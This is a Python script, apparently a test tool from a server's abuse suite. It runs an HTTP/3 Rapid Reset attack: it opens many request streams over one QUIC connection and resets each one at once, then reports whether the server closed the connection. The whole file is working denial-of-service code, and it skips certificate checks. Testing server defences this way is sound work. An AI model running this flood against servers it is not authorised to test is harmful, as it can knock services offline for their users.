#!/usr/bin/env python3
"""h3reset.py: an HTTP/3 Rapid Reset client for the abuse suite (needs aioquic 1.x).

Usage: python3 scripts/h3reset.py [--streams N] [--timeout S] URL

Opens one QUIC connection and, N times (default 400), opens a request stream, sends a request
head and resets the stream at once (RESET_STREAM H3_REQUEST_CANCELLED), as fast as stream
credit allows. Prints one JSON line: {"sent": streams reset, "closed": the server's
CONNECTION_CLOSE error code or null, "reason": its reason}. Exit 0 whatever happened (the
caller judges), 2 on bad usage.
"""
import argparse, asyncio, json, ssl
from urllib.parse import urlsplit
from aioquic.asyncio import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated


class Client(QuicConnectionProtocol):
    def __init__(self, *a, **k):
        super().__init__(*a, **k)
        self.h3 = H3Connection(self._quic)
        self.closed = asyncio.get_running_loop().create_future()

    def quic_event_received(self, ev):
        if isinstance(ev, ConnectionTerminated) and not self.closed.done():
            self.closed.set_result((ev.error_code, ev.reason_phrase))
        for _ in self.h3.handle_event(ev):
            pass


async def run(url, n, timeout):
    u = urlsplit(url)
    cfg = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, idle_timeout=timeout)
    cfg.verify_mode = ssl.CERT_NONE
    cfg.server_name = u.hostname
    sent = 0
    async with connect(u.hostname, u.port or 443, configuration=cfg, create_protocol=Client) as c:
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout
        while sent < n and loop.time() < deadline:
            if c.closed.done():
                break
            sid = c._quic.get_next_available_stream_id()
            if sid // 4 >= c._quic._remote_max_streams_bidi:
                # No stream credit: wait for the server's MAX_STREAMS. (aioquic would queue the
                # stream as blocked and then send RESET_STREAM for a stream id above the
                # server's limit, which the server rightly closes with STREAM_LIMIT_ERROR.)
                c.transmit()
                await asyncio.sleep(0.005)
                continue
            try:
                c.h3.send_headers(sid, [(b":method", b"GET"), (b":scheme", b"https"),
                                        (b":authority", u.netloc.encode()), (b":path", b"/hello.txt")])
                c._quic.reset_stream(sid, 0x10C)
            except Exception:
                # No stream credit left for now: let the server's MAX_STREAMS catch up.
                c.transmit()
                await asyncio.sleep(0.01)
                continue
            sent += 1
            c.transmit()
            if sent % 20 == 0:
                await asyncio.sleep(0.005)
        try:
            code, reason = await asyncio.wait_for(asyncio.shield(c.closed), timeout)
        except asyncio.TimeoutError:
            code, reason = None, ""
    print(json.dumps({"sent": sent, "closed": code, "reason": reason}))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--streams", type=int, default=400)
    p.add_argument("--timeout", type=float, default=10.0)
    p.add_argument("url")
    a = p.parse_args()
    asyncio.run(run(a.url, a.streams, a.timeout))


if __name__ == "__main__":
    main()
